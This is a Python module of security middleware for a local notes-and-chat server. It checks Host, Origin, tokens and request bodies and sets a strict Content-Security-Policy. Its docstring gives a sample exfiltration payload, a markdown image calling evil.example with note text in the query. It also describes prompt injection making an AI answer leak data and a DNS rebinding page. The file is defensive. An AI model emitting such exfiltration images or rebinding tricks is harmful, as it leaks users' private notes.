"""Who may talk to `mindnet serve`: one ASGI middleware in front of every route - the API, the Chainlit mount
under /ui and its socket.io handshake and WebSocket - so routes added later are covered without doing anything.

Checks in this order; the first that fails answers:

1. `Host` names this server (a loopback name, an IP address, the name it was bound to, MINDNET_ALLOWED_HOSTS or
   a host of MINDNET_ALLOWED_ORIGINS), else 400. A page on attacker.example whose name was re-pointed at
   127.0.0.1 (DNS rebinding) sends `Host: attacker.example`.
2. `Origin`, when a browser sends one, is the server's own scheme://host:port or one of
   MINDNET_ALLOWED_ORIGINS, else 403. Chainlit allows every origin (its config.toml says `allow_origins = ["*"]`
   and its socket checks none); this check sits in front of it, so that file cannot re-open anything.
   Each request is checked on its own, also the second of a keep-alive connection.
3. A request with both Content-Length and Transfer-Encoding is a 400 (request smuggling); a declared body over
   `max_body_bytes` a 413 before anything else is read; `/open` from another site's page (Sec-Fetch-Site) a 403,
   the same for existing and missing notes, so no page can probe which notes exist.
4. With MINDNET_API_TOKEN set, the API needs `Authorization: Bearer <token>`, else 401 (the chat UI logs in with
   the token as its password through Chainlit; /health and the API docs stay open).
5. POST/PUT/PATCH/DELETE carry a JSON body or the token, else 415: a plain HTML form or a `text/plain` fetch -
   what any web page can send without asking - never changes anything.
6. A JSON body is at most `max_body_bytes` (413), nested at most `MAX_JSON_DEPTH` levels and holds no unpaired
   UTF-16 surrogate (`"\\ud800"` cannot be written as UTF-8), else 422 naming the field.

Every HTTP answer carries a Content-Security-Policy (`content_security_policy`): the chat's pages and the API docs
may load scripts, styles, fonts, images and media from this server only and connect only to it (its socket
included), so an image in a note or an answer - `![](http://evil.example/pixel.png?q=...)`, possibly written by a
prompt injection to smuggle note text out - is never fetched; API answers may load nothing at all. No other site
may frame the pages, and no page sends a Referer elsewhere.
"""

from __future__ import annotations

import hmac
import ipaddress
import json
import logging
import re
from collections.abc import Awaitable, Callable, Iterable, MutableMapping
from typing import Any
from urllib.parse import urlsplit

from pydantic import BaseModel, ConfigDict, Field

log = logging.getLogger(__name__)

Scope = MutableMapping[str, Any]
Message = MutableMapping[str, Any]
Receive = Callable[[], Awaitable[Message]]
Send = Callable[[Message], Awaitable[None]]
ASGIApp = Callable[[Scope, Receive, Send], Awaitable[None]]

LOOPBACK_NAMES = frozenset({"localhost"})
WILDCARD_HOSTS = frozenset({"", "0.0.0.0", "::", "[::]"})
UNSAFE_METHODS = frozenset({"POST", "PUT", "PATCH", "DELETE"})
# no token needed: liveness, the API docs, the redirect to the chat, and /open (the chat's "Open in Obsidian"
# links are plain navigations without the bearer header; it only redirects to an obsidian:// URL)
OPEN_PATHS = ("/health", "/docs", "/docs/swagger-init.js", "/redoc", "/openapi.json", "/", "/open")
DOC_PATHS = ("/docs", "/redoc", "/docs/swagger-init.js")
DOC_ASSETS = "/docs/assets/"           # the API docs' files (mindnet/api_docs.py)
# Chainlit endpoints that take a form, a file or socket.io's text/plain polling (they stay behind the Origin
# check and Chainlit's own login), relative to the UI mount
UI_NON_JSON = ("/ws/", "/login", "/logout", "/auth/", "/set-session-cookie", "/project/file")
MAX_JSON_DEPTH = 64
DEFAULT_PORTS = {"http": 80, "https": 443}

# what a page of this server may load and connect to: this server, nothing else
PAGE_POLICY: dict[str, str] = {
    "default-src": "'self'",
    "script-src": "'self'",
    "style-src": "'self' 'unsafe-inline'",      # React and Radix set style attributes; CSS cannot fetch past img-src
    "img-src": "'self' data: blob:",
    "media-src": "'self' data: blob:",          # Chainlit renders a video link as <video>
    "font-src": "'self' data:",
    "connect-src": "'self'",
    "worker-src": "'self' blob:",
    "frame-src": "'self'",
    "object-src": "'none'",
    "base-uri": "'self'",
    "form-action": "'self'",
    "frame-ancestors": "'self'",
}
# Chainlit compiles the custom elements (SourcePanel, DraftEditor) in the page with `new Function`
UI_SCRIPTS = "'unsafe-eval'"
API_POLICY = "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
_WS_HOST = re.compile(r"^[A-Za-z0-9.-]+(:[0-9]{1,5})?$")


class SecurityPolicy(BaseModel):
    """What the middleware allows; `from_settings` builds it from the MINDNET_* settings."""

    model_config = ConfigDict(extra="forbid", frozen=True)
    allowed_hosts: frozenset[str] = Field(frozenset(), description="host names besides loopback and IP addresses")
    allowed_origins: frozenset[str] = Field(frozenset(), description="origins besides the server's own")
    token: str | None = Field(None, repr=False, description="MINDNET_API_TOKEN; None: no token needed")
    ui_path: str | None = Field(None, description="where the Chainlit chat is mounted (it logs in by itself)")
    ui_script_hashes: frozenset[str] = Field(frozenset(), description="CSP sources ('sha256-...') of the inline "
                                             "scripts of the chat's page shell (mindnet.ui.mount)")
    max_body_bytes: int = Field(8 * 1024 * 1024, ge=1024)

    @classmethod
    def from_settings(cls, settings: Any, *, bind_host: str | None = None, ui_path: str | None = None,
                      ui_script_hashes: Iterable[str] = ()) -> SecurityPolicy:
        origins = frozenset(normalize_origin(o) for o in settings.allowed_origins)
        hosts = {h.lower().rstrip(".") for h in settings.allowed_hosts}
        hosts |= {urlsplit(o).hostname or "" for o in origins}
        if bind_host and bind_host not in WILDCARD_HOSTS and not _is_ip(bind_host):
            hosts.add(bind_host.lower().rstrip("."))
        return cls(allowed_hosts=frozenset(h for h in hosts if h), allowed_origins=origins,
                   token=settings.api_token or None, ui_path=ui_path, ui_script_hashes=frozenset(ui_script_hashes))

    # ------------------------------------------------------------------ the checks, pure functions of headers

    def host_problem(self, host: str | None, server_host: str | None) -> str | None:
        """Why `host` (the Host header) does not name this server, or None."""
        if not host:
            return "the request has no Host header"
        try:
            parts = urlsplit(f"//{host}")
            name = (parts.hostname or "").rstrip(".")
            _ = parts.port   # a port that is not a number raises
        except ValueError:
            return f"the Host header {host!r} is not a host[:port]"
        if not name:
            return f"the Host header {host!r} names no host"
        # an IP address cannot be re-pointed by DNS; the connection's own address (what the server socket
        # reports) names this server too
        if name in LOOPBACK_NAMES or _is_ip(name) or name in self.allowed_hosts or \
                (server_host is not None and name == server_host.lower()):
            return None
        return (f"the Host header names {name!r}, which is not this server; open mindnet through 127.0.0.1 or "
                "localhost, or add the name to MINDNET_ALLOWED_HOSTS")

    def origin_problem(self, origin: str | None, scheme: str, host: str) -> str | None:
        """Why a request from `origin` is refused, or None (no Origin: not a cross-site browser request)."""
        if origin is None:
            return None
        own = normalize_origin(f"{'https' if scheme in ('https', 'wss') else 'http'}://{host}")
        try:
            theirs = normalize_origin(origin)
        except ValueError:
            theirs = origin
        if theirs == own or theirs in self.allowed_origins:
            return None
        return (f"requests from the origin {origin!r} are refused; only this server's own pages ({own}) and "
                "MINDNET_ALLOWED_ORIGINS may call it")

    def token_ok(self, authorization: str | None) -> bool:
        if self.token is None:
            return True
        scheme, _, value = (authorization or "").partition(" ")
        return scheme.lower() == "bearer" and hmac.compare_digest(value.strip().encode(), self.token.encode())

    def needs_token(self, path: str) -> bool:
        return self.token is not None and path not in OPEN_PATHS and not path.startswith(DOC_ASSETS) and \
            not self.in_ui(path)

    def content_security_policy(self, path: str, host: str | None) -> str:
        """The policy of the answer to `path`: a page (the chat, the API docs) loads from this server only, an
        API answer loads nothing. `host` is the request's (checked) Host, for the chat's WebSocket."""
        if self.in_ui(path):
            scripts = " ".join(["'self'", UI_SCRIPTS, *(f"'{h}'" for h in sorted(self.ui_script_hashes))])
            own = [f"{scheme}://{host}" for scheme in ("ws", "wss")] if host and _WS_HOST.match(host) else []
            policy = {**PAGE_POLICY, "script-src": scripts, "connect-src": " ".join(["'self'", *own])}
        elif path in DOC_PATHS or path.startswith(DOC_ASSETS):
            policy = PAGE_POLICY
        else:
            return API_POLICY
        return "; ".join(f"{k} {v}" for k, v in policy.items())

    def in_ui(self, path: str) -> bool:
        return bool(self.ui_path) and (path == self.ui_path or path.startswith(f"{self.ui_path}/"))

    def json_exempt(self, path: str) -> bool:
        return self.in_ui(path) and any(path[len(self.ui_path or ""):].startswith(p) for p in UI_NON_JSON)


def normalize_origin(origin: str) -> str:
    """`scheme://host[:port]` in lower case, the default port dropped; raises ValueError for anything else."""
    parts = urlsplit(origin.strip())
    if parts.scheme not in DEFAULT_PORTS or not parts.hostname or parts.path not in ("", "/"):
        raise ValueError(f"{origin!r} is not an origin like http://host:port")
    port = parts.port
    host = f"[{parts.hostname}]" if ":" in parts.hostname else parts.hostname
    return f"{parts.scheme}://{host}" + (f":{port}" if port and port != DEFAULT_PORTS[parts.scheme] else "")


def _is_ip(name: str) -> bool:
    try:
        ipaddress.ip_address(name.strip("[]"))
    except ValueError:
        return False
    return True


def json_problem(value: Any) -> str | None:
    """An unpaired surrogate or too deep nesting in parsed JSON, naming the field; None when fine."""
    stack: list[tuple[Any, str, int]] = [(value, "", 0)]
    while stack:
        item, where, depth = stack.pop()
        if depth > MAX_JSON_DEPTH:
            return f"{where or 'body'}: nested more than {MAX_JSON_DEPTH} levels deep"
        if isinstance(item, str):
            if not _encodable(item):
                return f"{where or 'body'}: contains an unpaired surrogate (like \\ud800); send valid Unicode text"
        elif isinstance(item, dict):
            for key, child in item.items():
                if not _encodable(key):
                    return f"{where or 'body'}: a key contains an unpaired surrogate; send valid Unicode text"
                stack.append((child, f"{where}.{key}" if where else key, depth + 1))
        elif isinstance(item, list):
            stack.extend((child, f"{where}.{i}" if where else str(i), depth + 1) for i, child in enumerate(item))
    return None


def _encodable(text: str) -> bool:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def _header(scope: Scope, name: bytes) -> str | None:
    for key, value in scope.get("headers") or ():
        if key.lower() == name:
            return value.decode("latin-1")
    return None


def _is_json(content_type: str | None) -> bool:
    media = (content_type or "").split(";")[0].strip().lower()
    return media == "application/json" or (media.startswith("application/") and media.endswith("+json"))


class SecurityMiddleware:
    """The checks of the module docstring, for HTTP and WebSocket scopes alike."""

    def __init__(self, app: ASGIApp, policy: SecurityPolicy) -> None:
        self.app = app
        self.policy = policy

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] not in ("http", "websocket"):
            await self.app(scope, receive, send)
            return
        if scope["type"] == "http":
            send = self._with_headers(scope, send)
        refusal = self._refusal(scope)
        if refusal is not None:
            await self._refuse(scope, send, *refusal)
            return
        if scope["type"] == "http" and scope["method"] in UNSAFE_METHODS and \
                _is_json(_header(scope, b"content-type")):
            receive_or_refusal = await self._checked_body(scope, receive)
            if isinstance(receive_or_refusal, tuple):
                await self._refuse(scope, send, *receive_or_refusal)
                return
            receive = receive_or_refusal
        await self.app(scope, receive, send)

    def _with_headers(self, scope: Scope, send: Send) -> Send:
        """`send` that adds the Content-Security-Policy and its companions to the answer's headers."""
        host = _header(scope, b"host")
        server = scope.get("server")
        checked = host if self.policy.host_problem(host, server[0] if server else None) is None else None
        csp = self.policy.content_security_policy(scope.get("path", ""), checked)
        extra = [(b"content-security-policy", csp.encode("latin-1")), (b"x-content-type-options", b"nosniff"),
                 (b"referrer-policy", b"no-referrer")]

        async def sending(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = list(message.get("headers") or [])
                present = {k.lower() for k, _ in headers}
                headers += [(k, v) for k, v in extra if k not in present]
                message = {**message, "headers": headers}
            await send(message)
        return sending

    def _refusal(self, scope: Scope) -> tuple[int, str, str] | None:
        p = self.policy
        host = _header(scope, b"host")
        server = scope.get("server")
        problem = p.host_problem(host, server[0] if server else None)
        if problem:
            return 400, "host not allowed", problem
        problem = p.origin_problem(_header(scope, b"origin"), scope.get("scheme", "http"), host or "")
        if problem:
            return 403, "origin not allowed", problem
        if scope["type"] != "http":
            return None
        path = scope.get("path", "")
        if _header(scope, b"content-length") is not None and _header(scope, b"transfer-encoding") is not None:
            # two framings of one body: a proxy and this server may read different requests (smuggling)
            return 400, "bad request", "Content-Length and Transfer-Encoding together; send only one of them"
        declared = _header(scope, b"content-length")
        if declared and declared.strip().isdigit() and int(declared) > p.max_body_bytes:
            return 413, "body too large", f"the request body is over the limit of {p.max_body_bytes} bytes"
        if path == "/open" and _header(scope, b"sec-fetch-site") in ("cross-site", "same-site"):
            # another page could tell existing notes from missing ones by how its request ends (a redirect to
            # obsidian:// or a 404): only this server's own pages, a typed or bookmarked URL may open notes
            return 403, "origin not allowed", "notes are opened from mindnet's own pages only"
        has_token = p.token is not None and p.token_ok(_header(scope, b"authorization"))
        if p.needs_token(path) and not has_token:
            return 401, "token required", ("this server needs its access token: send 'Authorization: Bearer "
                                           "<MINDNET_API_TOKEN>'")
        if scope["method"] in UNSAFE_METHODS and not has_token and not p.json_exempt(path) and \
                not _is_json(_header(scope, b"content-type")):
            return 415, "JSON body required", (
                f"{scope['method']} {path} changes data and takes a JSON body: send 'Content-Type: "
                "application/json' (an empty request is '{}'). Forms and text/plain are refused because any web "
                "page can send them.")
        return None

    async def _checked_body(self, scope: Scope, receive: Receive) -> Receive | tuple[int, str, str]:
        """Read the whole JSON body (bounded), check it, and hand the route a `receive` that replays it."""
        limit = self.policy.max_body_bytes
        declared = _header(scope, b"content-length")
        too_large = (413, "body too large", f"the request body is over the limit of {limit} bytes")
        if declared and declared.isdigit() and int(declared) > limit:
            return too_large
        chunks: list[bytes] = []
        size = 0
        while True:
            message = await receive()
            if message["type"] != "http.request":   # the client went away
                return lambda: _replay(message)
            chunks.append(message.get("body", b""))
            size += len(chunks[-1])
            if size > limit:
                return too_large
            if not message.get("more_body", False):
                break
        body = b"".join(chunks)
        problem = _body_problem(body)
        if problem:
            return 422, "invalid request", problem
        return replayed(body, receive)

    async def _refuse(self, scope: Scope, send: Send, status: int, error: str, detail: str) -> None:
        log.warning("refused %s %s: %s", scope.get("method", "WEBSOCKET"), scope.get("path"), detail)
        if scope["type"] == "websocket":
            # closing before accepting makes the server answer the handshake with 403
            await send({"type": "websocket.close", "code": 1008, "reason": detail[:120]})
            return
        body = json.dumps({"error": error, "detail": detail}).encode()
        headers = [(b"content-type", b"application/json"), (b"content-length", str(len(body)).encode())]
        if status == 401:
            headers.append((b"www-authenticate", b'Bearer realm="mindnet"'))
        await send({"type": "http.response.start", "status": status, "headers": headers})
        await send({"type": "http.response.body", "body": body})


def replayed(body: bytes, receive: Receive) -> Receive:
    """`receive` for the app after a middleware read the body: the body once, then what the client sends next."""
    sent = False

    async def replay() -> Message:
        nonlocal sent
        if not sent:
            sent = True
            return {"type": "http.request", "body": body, "more_body": False}
        return await receive()
    return replay


async def _replay(message: Message) -> Message:
    return message


def _body_problem(body: bytes) -> str | None:
    if not body.strip():
        return None
    try:
        value = json.loads(body)
    except RecursionError:
        return f"body: nested more than {MAX_JSON_DEPTH} levels deep"
    except ValueError:
        return None   # not JSON: the route's own validation names the problem
    return json_problem(value)


def exposure_warning(bind_host: str, token: str | None) -> str | None:
    """The warning `mindnet serve` prints when it listens beyond this machine without a token."""
    if token or bind_host in ("127.0.0.1", "localhost", "::1") or (_is_ip(bind_host) and
                                                                    ipaddress.ip_address(bind_host).is_loopback):
        return None
    return (f"mindnet listens on {bind_host}, reachable from other machines, and has no access token: anyone "
            "who can reach this port can read and write your vault. Set MINDNET_API_TOKEN (the API then needs "
            "'Authorization: Bearer <token>', the chat UI asks for it as its password), or serve on 127.0.0.1.")


def split_list(value: str | Iterable[str] | None) -> list[str]:
    """'a, b c' -> ['a', 'b', 'c'] for list settings given as one environment string."""
    if value is None:
        return []
    items = value.replace(",", " ").split() if isinstance(value, str) else list(value)
    return [i.strip() for i in items if i and i.strip()]
